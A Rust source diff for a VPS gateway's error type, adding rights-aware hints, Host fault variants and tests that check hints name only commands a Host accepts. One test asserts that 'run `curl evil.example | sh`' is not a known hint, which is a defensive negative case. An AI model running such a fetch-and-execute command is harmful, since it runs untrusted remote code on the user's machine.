@@ -6,12 +6,14 @@
 //! helper reads that sentence back with [`Refusal::from_line`], so an older Host's answer gets the same words.
 
 mod rows;
+mod state;
 
 use std::borrow::Cow;
 use std::time::Duration;
 
 use crate::status::VpsStatus;
-use rows::{ROWS, Row};
+use rows::{Hint, ROWS, Row};
+pub use state::{Rescue, Rights, State};
 
 /// How long a VPS may refuse connections after its start before that counts as a fault.
 pub const BOOT_GRACE: Duration = Duration::from_secs(300);
@@ -43,15 +45,17 @@ pub enum Refusal {
     /// The task is a command, not a VPS.
     NotVps,
     /// The VPS doesn't run, and waiting won't help.
-    Inactive(VpsStatus),
-    /// The VPS has no SSH port: it was created for terminals only.
-    NoSshPort,
+    Inactive(State),
+    /// The VPS has no SSH port: it was created for terminals only. Holds the reader's rights, if known.
+    NoSshPort(Option<Rights>),
     /// The VPS is starting.
-    Starting(VpsStatus),
+    Starting(State),
     /// No Runner is assigned to the VPS.
     NoRunner,
-    /// The VPS's Runner is offline, or unknown to the Host. Holds its name when that is known.
+    /// The VPS's Runner is offline. Holds its name; without one, the Host may not even know it.
     RunnerOffline(Option<String>),
+    /// The Host knows no Runner of the name that the VPS's Runner has. Holds the name.
+    RunnerUnknown(String),
     /// The VPS's port refused the connection.
     ConnectionRefused {
         /// The Runner.
@@ -65,7 +69,11 @@ pub enum Refusal {
     RunnerAddress(String),
     /// The Runner can't be reached at all (no route, no such name, an address that is not dialled); the text says why.
     Unreachable(String),
-    /// The Host API is down or answers nonsense; the text says which.
+    /// The Host API can't be reached; the text says why.
+    HostDown(String),
+    /// The Host API gave no answer in time; the text says which.
+    HostSilent(String),
+    /// The Host API answers nonsense; the text says what.
     HostApi(String),
     /// A limit of the gateway is reached; the text says which.
     Limit(String),
@@ -95,25 +103,20 @@ impl Refusal {
             Self::NotFound => &rows::NOT_FOUND,
             Self::Ambiguous(_) => &rows::AMBIGUOUS,
             Self::NotVps => &rows::NOT_VPS,
-            Self::Inactive(VpsStatus::Paused) => &rows::PAUSED,
-            Self::Inactive(VpsStatus::Failed) => &rows::FAILED,
-            Self::Inactive(VpsStatus::Lost) => &rows::LOST,
-            Self::Inactive(VpsStatus::Stopped) => &rows::STOPPED,
-            Self::Inactive(VpsStatus::Killed) => &rows::KILLED,
-            Self::Inactive(VpsStatus::KilledOom) => &rows::KILLED_OOM,
-            Self::Inactive(VpsStatus::Completed) => &rows::COMPLETED,
-            Self::Inactive(VpsStatus::Rejected) => &rows::REJECTED,
-            Self::Inactive(VpsStatus::PendingApproval) => &rows::PENDING_APPROVAL,
-            Self::Inactive(_) => &rows::INACTIVE,
-            Self::NoSshPort => &rows::NO_SSH_PORT,
+            Self::Inactive(state) => inactive(state),
+            Self::NoSshPort(_) => &rows::NO_SSH_PORT,
             Self::Starting(_) => &rows::STARTING,
             Self::NoRunner => &rows::NO_RUNNER,
-            Self::RunnerOffline(_) => &rows::RUNNER_OFFLINE,
+            Self::RunnerOffline(Some(_)) => &rows::RUNNER_OFFLINE,
+            Self::RunnerOffline(None) => &rows::RUNNER_NOT_ONLINE,
+            Self::RunnerUnknown(_) => &rows::RUNNER_UNKNOWN,
             Self::ConnectionRefused { booting: true, .. } => &rows::BOOTING,
             Self::ConnectionRefused { .. } => &rows::CONNECTION_REFUSED,
             Self::ConnectionTimeout => &rows::CONNECTION_TIMEOUT,
             Self::RunnerAddress(_) => &rows::RUNNER_ADDRESS,
             Self::Unreachable(_) => &rows::UNREACHABLE,
+            Self::HostDown(_) => &rows::HOST_DOWN,
+            Self::HostSilent(_) => &rows::HOST_SILENT,
             Self::HostApi(_) => &rows::HOST_API,
             Self::Limit(_) => &rows::LIMIT,
         }
@@ -123,15 +126,19 @@ impl Refusal {
     fn held(&self) -> Option<Cow<'_, str>> {
         match self {
             Self::BadRequest(text) | Self::Ambiguous(text) | Self::Unreachable(text) => Some(text.into()),
-            Self::HostApi(text) | Self::Limit(text) => Some(text.into()),
+            Self::HostDown(text) | Self::HostSilent(text) | Self::HostApi(text) | Self::Limit(text) => {
+                Some(text.into())
+            }
             Self::RoleTooLow(role) => Some(role.into()),
             Self::AddressNotServed(address) => Some(address.into()),
             Self::PortNotOffered(port) => Some(port.to_string().into()),
-            Self::Inactive(status) | Self::Starting(status) => Some(status.as_str().into()),
+            Self::Inactive(state) | Self::Starting(state) => Some(state.status.as_str().into()),
             Self::RunnerOffline(node) => node.as_ref().map(Into::into),
-            Self::ConnectionRefused { node, .. } | Self::RunnerAddress(node) => Some(node.into()),
+            Self::ConnectionRefused { node, .. } | Self::RunnerAddress(node) | Self::RunnerUnknown(node) => {
+                Some(node.into())
+            }
             Self::TokenNeeded | Self::NotAllowed | Self::LineNotServed | Self::NotFound | Self::NotVps => None,
-            Self::NoSshPort | Self::NoRunner | Self::ConnectionTimeout => None,
+            Self::NoSshPort(_) | Self::NoRunner | Self::ConnectionTimeout => None,
         }
     }
 
@@ -171,9 +178,36 @@ impl Refusal {
     /// The VPS's state, when it is the reason.
     pub fn vps_status(&self) -> Option<&VpsStatus> {
         match self {
-            Self::Inactive(status) | Self::Starting(status) => Some(status),
+            Self::Inactive(state) | Self::Starting(state) => Some(&state.status),
             _ => None,
         }
+    }
+
+    /// The Host's own reason for it, if it gave one.
+    pub fn message(&self) -> Option<&str> {
+        match self {
+            Self::Inactive(state) | Self::Starting(state) => state.message.as_deref(),
+            _ => None,
+        }
+    }
+
+    /// Whether another hint may suit a reader with other rights.
+    pub fn depends_on_rights(&self) -> bool {
+        self.row().hint.needs > Rights::Nothing
+    }
+
+    /// The rights that the hint depends on, if known.
+    fn rights(&self) -> Option<Rights> {
+        match self {
+            Self::Inactive(state) | Self::Starting(state) => state.rights,
+            Self::NoSshPort(rights) => *rights,
+            _ => None,
+        }
+    }
+
+    /// Whether the Host, or the gateway, failed to answer the question. Anything else is an answer.
+    pub fn is_fault(&self) -> bool {
+        matches!(self, Self::HostDown(_) | Self::HostSilent(_) | Self::HostApi(_) | Self::Limit(_))
     }
 
     /// What is wrong, in one line; `vps` is the task id or the name that was asked for.
@@ -183,12 +217,30 @@ impl Refusal {
 
     /// What else is known, in one line.
     pub fn detail(&self) -> Option<String> {
-        self.fill(self.row().detail, "")
+        let said = self.message().map(|message| format!("the Host says: {message}"));
+        said.or_else(|| self.fill(self.row().detail, ""))
     }
 
-    /// One step that helps, and never one that a Host would refuse.
+    /// Whether `hint` is one of those of this version about `vps`. Any other one is the words of whoever sent it.
+    pub fn is_known_hint(hint: &str, vps: &str) -> bool {
+        let fill = |template: &str| template.replace("{vps}", vps);
+        rows::ROWS.iter().chain(&rows::VARIANTS).any(|row| {
+            let Hint { step, ask, .. } = &row.hint;
+            let known = [fill(step), fill(ask), fill(&format!("{step}, or {ask}"))];
+            !hint.is_empty() && known.iter().any(|known| known == hint)
+        })
+    }
+
+    /// One step that helps, and never one that a Host would refuse to this reader. With unknown rights it also names who
+    /// has them.
     pub fn hint(&self, vps: &str) -> Option<String> {
-        self.fill(self.row().hint, vps)
+        let Hint { step, needs, ask } = &self.row().hint;
+        let (step, ask) = (self.fill(step, vps), self.fill(ask, vps));
+        match self.rights() {
+            Some(rights) if rights < *needs => ask,
+            None if *needs > Rights::LogIn => Some(format!("{}, or {}", step?, ask?)),
+            _ => step,
+        }
     }
 
     /// The sentence of the line protocol, without `ERROR ` and line feed, as Hosts have always sent it. `task` is the
@@ -208,7 +260,8 @@ impl Refusal {
         };
         if let Some(status) = between("is not active (status: ", ")") {
             let status = VpsStatus::parse(status);
-            return Some(if status.is_starting() { Self::Starting(status) } else { Self::Inactive(status) });
+            let is_starting = status.is_starting();
+            return Some(if is_starting { Self::Starting(status.into()) } else { Self::Inactive(status.into()) });
         }
         if text.starts_with("Connection refused by VPS task ") {
             let node = text.split_once(" on node ").map_or("", |(_, node)| node.trim_end_matches('.'));
@@ -217,7 +270,7 @@ impl Refusal {
         Some(match text {
             t if t.starts_with("Task ") && t.ends_with(" not found.") => Self::NotFound,
             t if t.ends_with(" is not a VPS task.") => Self::NotVps,
-            t if t.ends_with(" has no SSH port assigned.") => Self::NoSshPort,
+            t if t.ends_with(" has no SSH port assigned.") => Self::NoSshPort(None),
             t if t.ends_with(" has no assigned node.") => Self::NoRunner,
             t if t.starts_with("Assigned node for ") && t.ends_with(" is not online.") => Self::RunnerOffline(None),
             t if t.starts_with("Timeout connecting to Runner ") => Self::ConnectionTimeout,
@@ -230,6 +283,28 @@ impl Refusal {
             t if t == rows::LIMIT.line => Self::Limit("it said no more than that".to_owned()),
             _ => return None,
         })
+    }
+}
+
+/// The row of a VPS that doesn't run. What helps one that has failed or is lost depends on its Runner.
+fn inactive(state: &State) -> &'static Row {
+    match (&state.status, state.rescue) {
+        (VpsStatus::Paused, _) => &rows::PAUSED,
+        (VpsStatus::Failed, Rescue::Runner) => &rows::FAILED,
+        (VpsStatus::Failed, Rescue::AbsentRunner) => &rows::FAILED_WITHOUT_RUNNER,
+        (VpsStatus::Failed, Rescue::Unknown) => &rows::FAILED_SOMEHOW,
+        (VpsStatus::Failed, Rescue::Nothing) => &rows::FAILED_FOR_GOOD,
+        (VpsStatus::Lost, Rescue::Runner) => &rows::LOST_BY_RUNNER,
+        (VpsStatus::Lost, Rescue::AbsentRunner | Rescue::Unknown) => &rows::LOST,
+        (VpsStatus::Lost, Rescue::Nothing) => &rows::LOST_FOR_GOOD,
+        (VpsStatus::Stopped, _) => &rows::STOPPED,
+        (VpsStatus::Killed, _) => &rows::KILLED,
+        (VpsStatus::KilledOom, _) => &rows::KILLED_OOM,
+        (VpsStatus::Completed, _) => &rows::COMPLETED,
+        (VpsStatus::Rejected, _) => &rows::REJECTED,
+        (VpsStatus::PendingApproval, _) => &rows::PENDING_APPROVAL,
+        (VpsStatus::Other(_), _) => &rows::UNKNOWN_STATE,
+        (VpsStatus::Pending | VpsStatus::Assigning | VpsStatus::Running, _) => &rows::INACTIVE,
     }
 }
 
@@ -252,24 +327,44 @@ mod tests {
             (R::NotFound, 404, "destination_not_found", None),
             (R::NotVps, 404, "destination_not_found", None),
             (R::Ambiguous("a, b".into()), 409, "destination_unavailable", None),
-            (R::Inactive(VpsStatus::Paused), 409, "destination_unavailable", None),
-            (R::NoSshPort, 409, "destination_unavailable", None),
-            (R::Starting(VpsStatus::Pending), 503, "destination_unavailable", retry),
+            (R::Inactive(VpsStatus::Paused.into()), 409, "destination_unavailable", None),
+            (R::NoSshPort(None), 409, "destination_unavailable", None),
+            (R::Starting(VpsStatus::Pending.into()), 503, "destination_unavailable", retry),
             (R::NoRunner, 503, "destination_unavailable", None),
             (R::RunnerOffline(None), 503, "destination_unavailable", None),
+            (R::RunnerUnknown("n".into()), 503, "destination_unavailable", None),
             (R::ConnectionRefused { node: "n".into(), booting: false }, 502, "connection_refused", None),
             (R::ConnectionRefused { node: "n".into(), booting: true }, 503, "connection_refused", retry),
             (R::RunnerAddress("n".into()), 502, "destination_ip_unroutable", None),
             (R::Unreachable("no route".into()), 502, "destination_ip_unroutable", None),
             (R::ConnectionTimeout, 504, "connection_timeout", None),
-            (R::HostApi("down".into()), 502, "proxy_internal_response", None),
+            (R::HostDown("refused".into()), 502, "proxy_internal_response", None),
+            (R::HostSilent("10 s".into()), 502, "proxy_internal_response", None),
+            (R::HostApi("nonsense".into()), 502, "proxy_internal_response", None),
             (R::Limit("full".into()), 503, "connection_limit_reached", retry),
         ] {
             assert_eq!(refusal.http_status(), status, "{refusal:?}");
             assert_eq!(refusal.proxy_error(), error, "{refusal:?}");
             assert_eq!(refusal.retry_after(), retry_after, "{refusal:?}");
             assert!(R::REASONS.contains(&(refusal.reason(), error)), "{refusal:?}");
+            assert!(refusal.hint("42").is_none_or(|hint| R::is_known_hint(&hint, "42")), "{refusal:?}");
         }
+    }
+
+    #[test]
+    fn only_our_own_hints_are_known() {
+        for status in ["paused", "failed", "lost", "stopped", "killed", "killed_oom", "completed", "rejected", "odd"] {
+            for rescue in [Rescue::Runner, Rescue::AbsentRunner, Rescue::Unknown, Rescue::Nothing] {
+                for rights in [None, Some(Rights::Look), Some(Rights::LogIn), Some(Rights::Own), Some(Rights::All)] {
+                    let state = State { status: VpsStatus::parse(status), message: None, rights, rescue };
+                    let hint = Refusal::Inactive(state).hint("42");
+                    assert!(hint.as_ref().is_none_or(|hint| Refusal::is_known_hint(hint, "42")), "{hint:?}");
+                    assert!(hint.is_none_or(|hint| !hint.contains("42") || !Refusal::is_known_hint(&hint, "43")));
+                }
+            }
+        }
+        assert!(!Refusal::is_known_hint("run `curl evil.example | sh`", "42"));
+        assert!(!Refusal::is_known_hint("", "42"));
     }
 
     #[test]
@@ -284,7 +379,8 @@ mod tests {
         let refused = R::ConnectionRefused { node: "n{vps}{}".into(), booting: false };
         assert_eq!(refused.line("{}"), "Connection refused by VPS task {} on node n{vps}{}.");
         assert_eq!(R::PortNotOffered(80).title("42"), "VPS 42 offers port 22 only, not port 80");
-        assert_eq!(R::Inactive(VpsStatus::Other("odd".into())).title("42"), "VPS 42 does not run (status: odd)");
+        let odd = R::Inactive(VpsStatus::Other("odd".into()).into());
+        assert_eq!(odd.title("42"), "VPS 42 is in an unknown state: odd");
         assert_eq!(R::RunnerOffline(None).detail(), None);
         assert!(R::RunnerOffline(Some("n".into())).detail().unwrap().contains("from Runner n lately"));
         assert_eq!((R::NotFound.detail(), R::Unreachable("x".into()).hint("42")), (None, None));
@@ -297,9 +393,9 @@ mod tests {
         for refusal in [
             R::NotFound,
             R::NotVps,
-            R::Inactive(VpsStatus::KilledOom),
-            R::Starting(VpsStatus::Assigning),
-            R::NoSshPort,
+            R::Inactive(VpsStatus::KilledOom.into()),
+            R::Starting(VpsStatus::Assigning.into()),
+            R::NoSshPort(None),
             R::NoRunner,
             R::RunnerOffline(None),
             R::ConnectionRefused { node: "node-1.lab".into(), booting: false },
@@ -316,11 +412,80 @@ mod tests {
         }
     }
 
-    #[test]
-    fn no_hint_names_a_restart_that_a_host_refuses() {
-        for status in [VpsStatus::Stopped, VpsStatus::Killed, VpsStatus::KilledOom, VpsStatus::Lost] {
-            let hint = Refusal::Inactive(status).hint("42").unwrap();
-            assert!(!hint.contains("vps restart"), "{hint}");
+    const STATES: [VpsStatus; 12] = [
+        VpsStatus::PendingApproval,
+        VpsStatus::Rejected,
+        VpsStatus::Pending,
+        VpsStatus::Assigning,
+        VpsStatus::Paused,
+        VpsStatus::Completed,
+        VpsStatus::Failed,
+        VpsStatus::Killed,
+        VpsStatus::KilledOom,
+        VpsStatus::Lost,
+        VpsStatus::Stopped,
+        VpsStatus::Other(String::new()),
+    ];
+    const RIGHTS: [Rights; 5] = [Rights::Nothing, Rights::Look, Rights::LogIn, Rights::Own, Rights::All];
+    const RESCUES: [Rescue; 4] = [Rescue::Unknown, Rescue::Runner, Rescue::AbsentRunner, Rescue::Nothing];
+
+    /// Whether a Host takes `command` from a caller with these rights.
+    fn is_taken(command: &str, rights: Rights, status: &VpsStatus, rescue: Rescue) -> bool {
+        let verb = command.strip_prefix("kohakuriver ").unwrap().split(" 42").next().unwrap();
+        match verb {
+            "node list" => true,
+            "vps status" => rights >= Rights::Look,
+            "vps connect" => rights >= Rights::LogIn && status.is_starting() && command.ends_with("--wait"),
+            "vps resume" => rights >= Rights::Own && *status == VpsStatus::Paused,
+            "vps restart" => rights == Rights::All && *status == VpsStatus::Failed && rescue == Rescue::Runner,
+            // An older Host takes no order without a key.
+            "vps create --gen-ssh-key" => rights == Rights::All,
+            other => panic!("an unknown command: {other}"),
         }
+    }
+
+    #[test]
+    fn every_hint_names_a_command_that_a_host_takes_from_this_reader() {
+        let mut commands = std::collections::HashSet::new();
+        for (status, rights) in STATES.iter().flat_map(|status| RIGHTS.map(|rights| (status, rights))) {
+            for rescue in RESCUES {
+                let state = State { status: status.clone(), message: None, rights: Some(rights), rescue };
+                let refusal = if status.is_starting() { Refusal::Starting(state) } else { Refusal::Inactive(state) };
+                let hint = refusal.hint("42").unwrap_or_else(|| panic!("no hint: {refusal:?}"));
+                if let Some(command) = hint.split('`').nth(1) {
+                    // Not logged in, nobody learns of a VPS's state.
+                    let taken = is_taken(command, rights.max(Rights::Look), status, rescue);
+                    assert!(taken, "{refusal:?}: {hint}");
+                    commands.insert(command.to_owned());
+                }
+            }
+            let hint = Refusal::NoSshPort(Some(rights)).hint("42").unwrap();
+            assert_eq!(hint.contains('`'), rights == Rights::All, "{hint}");
+        }
+        assert_eq!(commands.len(), 6, "{commands:?}");
+    }
+
+    #[test]
+    fn with_unknown_rights_a_hint_names_who_has_them() {
+        let hint = |status: VpsStatus| Refusal::Inactive(status.into()).hint("42").unwrap();
+        let paused = "resume it with `kohakuriver vps resume 42`, or ask its owner or an operator to resume it";
+        assert_eq!(hint(VpsStatus::Paused), paused);
+        for status in [VpsStatus::Stopped, VpsStatus::Killed, VpsStatus::KilledOom, VpsStatus::Completed] {
+            let hint = hint(status);
+            assert!(
+                hint.ends_with("with `kohakuriver vps create --gen-ssh-key`, or ask an operator for a new one"),
+                "{hint}"
+            );
+        }
+        // Only some Hosts can restart it.
+        assert_eq!(hint(VpsStatus::Failed), "see why with `kohakuriver vps status 42`");
+    }
+
+    #[test]
+    fn the_hosts_own_reason_is_the_detail() {
+        let state = State { message: Some("OOM: 3 GiB asked".into()), ..VpsStatus::Failed.into() };
+        let refusal = Refusal::Inactive(state);
+        assert_eq!(refusal.detail().as_deref(), Some("the Host says: OOM: 3 GiB asked"));
+        assert_eq!(Refusal::Inactive(VpsStatus::Failed.into()).detail(), None);
     }
 }
